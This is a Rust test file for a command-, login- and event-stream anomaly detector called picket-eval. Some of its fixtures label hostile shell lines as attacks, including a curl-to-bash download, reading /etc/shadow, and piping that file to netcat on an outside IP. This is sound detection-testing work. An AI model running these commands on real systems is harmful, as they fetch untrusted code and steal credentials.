//! `picket-eval` on files that are small, compressed, odd or wrong.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use picket_event::{
    Ancestor, BootId, Event, Kind, Origin, Process, ProcessUid, Source, UnixNanos, json,
};
use serde_json::Value;

#[test]
fn a_command_file_is_judged_and_every_figure_is_printed() {
    let files = Files::new();
    let train = files.write("train.tsv", &normal_commands(200));
    let mut test = normal_commands(100);
    test.push_str("attack\tcurl -s http://198.51.100.7/x | bash\r\nattack\tcat /etc/shadow\n\n");
    let test = files.write("test.tsv", &test);
    let out = eval("command", &train, &test, true);
    let figures: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (figures["normals"].as_u64(), figures["attacks"].as_u64()),
        (Some(100), Some(2))
    );
    assert_eq!(figures["recall_1%"]["found"], 2);
    assert_eq!(figures["classes"]["attack"]["recall_1%"]["of"], 2);
    assert!(figures["auroc"].as_f64().unwrap() > 0.99, "{figures}");
    let readable = eval("command", &train, &test, false);
    let text = String::from_utf8_lossy(&readable.stdout).into_owned();
    for name in [
        "AUROC",
        "AUPR",
        "recall at 0.1 %",
        "normals with p < 1 %",
        "state",
    ] {
        assert!(text.contains(name), "no `{name}` in {text}");
    }
}

#[test]
fn a_compressed_file_gives_what_the_plain_one_gives_and_a_torn_one_is_refused() {
    let files = Files::new();
    let train = files.write("train.tsv", &normal_commands(200));
    let test = files.write("test.tsv", "normal\tls\nattack\tcat /etc/shadow\n");
    let plain = eval("command", &train, &test, true);
    let packed = files.gzip(&train);
    let again = eval("command", &packed, &test, true);
    let score =
        |out: &Output| serde_json::from_slice::<Value>(&out.stdout).unwrap()["aupr"].clone();
    assert_eq!(score(&plain), score(&again));
    let bytes = std::fs::read(&packed).unwrap();
    let torn = files.write_bytes("torn.gz", &bytes[..bytes.len() / 2]);
    refused("command", &torn, &test, "gzip refused it");
}

#[test]
fn a_login_file_may_leave_columns_out() {
    let files = Files::new();
    let mut train = "label,second,user,src_pc,dst_pc\n".to_owned();
    for n in 0..500 {
        writeln!(train, "normal,{},U{},C{},S", n * 60, n % 20, n % 20).unwrap();
    }
    let train = files.write("train.csv", &train);
    let test = "label,user,src_pc,dst_pc,second\nnormal,U1,C1,S,30060\nimpostor,U2,C1,S,30061\n";
    let test = files.write("test.csv", test);
    let out = eval("login", &train, &test, true);
    let figures: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        figures["classes"]["impostor"]["recall_1%"]["found"], 1,
        "{figures}"
    );
}

#[test]
fn a_wrong_line_is_told_with_its_number_and_nothing_panics() {
    let files = Files::new();
    let train = files.write("train.tsv", "normal\ta\t1 2 3\nnormal\tb\t1 2 x\n");
    refused(
        "sequence",
        &train,
        &train,
        "line 2: `x` is no number of a call",
    );
    let cut = files.write("cut.tsv", "normal\n");
    refused("command", &cut, &cut, "line 1: expected a label, a tab");
    let csv = files.write("a.csv", "label,second,user\nnormal,1,U1\nnormal,1\n");
    refused(
        "login",
        &csv,
        &csv,
        "line 3: 2 fields where the header has 3",
    );
    let empty = files.write("empty.tsv", "");
    for subject in ["sequence", "command", "login"] {
        refused(subject, &empty, &empty, "holds no normal");
        refused(subject, Path::new("/nonexistent"), &empty, "failed to read");
    }
    let odd = files.write_bytes("odd.tsv", b"normal\ta\t\nattack\tb\t\nnormal\t\xff\n");
    refused("sequence", &odd, &odd, "line 3: ");
    let binary: Vec<u8> = (0..4096_u32).map(|n| (n * n % 251) as u8).collect();
    let binary = files.write_bytes("binary", &binary);
    for subject in ["sequence", "command", "login"] {
        refused(subject, &binary, &binary, "");
    }
}

#[test]
fn labels_of_the_test_change_no_score() {
    let files = Files::new();
    let train = files.write("train.tsv", &normal_commands(200));
    let truth = files.write("truth.tsv", "normal\tls -l\nattack\tcat /etc/shadow\n");
    let swapped = files.write("swapped.tsv", "attack\tls -l\nnormal\tcat /etc/shadow\n");
    let auroc = |test: &Path| {
        let out = eval("command", &train, test, true);
        serde_json::from_slice::<Value>(&out.stdout).unwrap()["auroc"]
            .as_f64()
            .unwrap()
    };
    assert!((auroc(&truth) - 1.0).abs() < 1e-9 && auroc(&swapped).abs() < 1e-9);
}

#[test]
fn the_agent_itself_is_judged_on_the_same_files() {
    let files = Files::new();
    let train = files.write("train.tsv", &normal_commands(400));
    let test = files.write("test.tsv", "normal\tfind . -name '*.rs' -size +7k | wc -l\nattack\tsudo cat /etc/shadow | nc 198.51.100.7 443\n");
    let out = Command::new(env!("CARGO_BIN_EXE_picket-eval"))
        .args(["command", "--agent", "--json", "--train"])
        .arg(&train)
        .arg("--test")
        .arg(&test)
        .output()
        .unwrap();
    let told: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        (told["auroc"].as_f64().unwrap() - 1.0).abs() < 1e-9,
        "{told}"
    );
    let logins =
        "label,second,user,source,destination\nnormal,1,ann,pc1,srv\nnormal,2,ann,pc1,srv\n";
    let logins = files.write("logins.csv", logins);
    let out = Command::new(env!("CARGO_BIN_EXE_picket-eval"))
        .args(["login", "--agent", "--json", "--train"])
        .arg(&logins)
        .arg("--test")
        .arg(&logins)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Twelve days of a host that does the same every day; then an attack that nothing on it ever did.
#[test]
fn a_stream_of_events_tells_its_alerts_floods_and_what_repetition_does() {
    let files = Files::new();
    let mut text = String::new();
    for day in 0..12 {
        for n in 0..300 {
            let now = UnixNanos(day * DAY + n * 60_000_000_000);
            let line = if n % 3 == 0 {
                "/bin/ls -l"
            } else {
                "/usr/bin/git status"
            };
            writeln!(text, "{}", started(now, "/usr/sbin/nginx", line)).unwrap();
        }
    }
    let events = files.write("events.jsonl", &text);
    let now = UnixNanos(12 * DAY);
    let attack = started(now, "/usr/sbin/nginx", "/tmp/x -c id");
    let attacks = files.write("attacks.jsonl", &format!("{attack}\n"));
    let program = env!("CARGO_BIN_EXE_picket-eval");
    let mut command = Command::new(program);
    command
        .arg("stream")
        .arg("--events")
        .arg(&events)
        .arg("--attacks")
        .arg(&attacks);
    let out = command.output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let told: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (told["events"].as_u64(), told["scored"].as_u64()),
        (Some(3_600), Some(3_600))
    );
    assert_eq!(
        (told["notifications"].as_u64(), told["days"].as_u64()),
        (Some(0), Some(12))
    );
    assert_eq!(told["scores_not_recomputable"], 0);
    assert_eq!(told["attacks"]["notifications"], 1, "{told}");
    assert_eq!(
        told["attacks"]["repeated"]["usual_after_1000_repeats_on_one_day"], 0,
        "{told}"
    );
    assert_eq!(told["flood"]["told_as_a_flood"], 1, "{told}");
    assert!(
        told["flood"]["notifications"].as_u64().unwrap() <= 12,
        "{told}"
    );
    let wrong = files.write("wrong.jsonl", "{}\n");
    let out = Command::new(program)
        .arg("stream")
        .arg("--events")
        .arg(&wrong)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("line 1"));
}

fn started(now: UnixNanos, parent: &str, line: &str) -> String {
    let mut process = Process::new(ProcessUid::new([1; 16]), 700);
    process.exe = line.split(' ').next().unwrap().into();
    process.argv = line.split(' ').map(Into::into).collect();
    process.cwd = "/".into();
    process.ancestry = vec![Ancestor {
        uid: ProcessUid::new([2; 16]),
        pid: 600,
        exe: parent.into(),
    }]
    .into();
    let event = Event::new(Kind::Exec, now, Source::Replay).by(process);
    let origin = Origin {
        host: None,
        boot: BootId::new([0; 16]),
    };
    json::to_string(&event, &origin)
}

const DAY: i64 = 86_400_000_000_000;

fn normal_commands(number: usize) -> String {
    (0..number).fold(String::new(), |mut text, n| {
        writeln!(text, "normal\tfind . -name '*.rs' -size +{n}k | wc -l").unwrap();
        text
    })
}

fn eval(subject: &str, train: &Path, test: &Path, json: bool) -> Output {
    let out = run(subject, train, test, json);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

fn refused(subject: &str, train: &Path, test: &Path, why: &str) {
    let out = run(subject, train, test, false);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(1), "{subject}: {said}");
    assert!(
        said.contains(why) && !said.contains("panicked"),
        "{subject}: {said}"
    );
}

fn run(subject: &str, train: &Path, test: &Path, json: bool) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_picket-eval"));
    command
        .arg(subject)
        .arg("--train")
        .arg(train)
        .arg("--test")
        .arg(test);
    if json {
        command.arg("--json");
    }
    command.output().unwrap()
}

struct Files(tempfile::TempDir);

impl Files {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        self.write_bytes(name, text.as_bytes())
    }

    fn write_bytes(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let path = self.0.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path
    }

    fn gzip(&self, path: &Path) -> PathBuf {
        let out = Command::new("gzip").arg("-c").arg(path).output().unwrap();
        self.write_bytes("packed.gz", &out.stdout)
    }
}
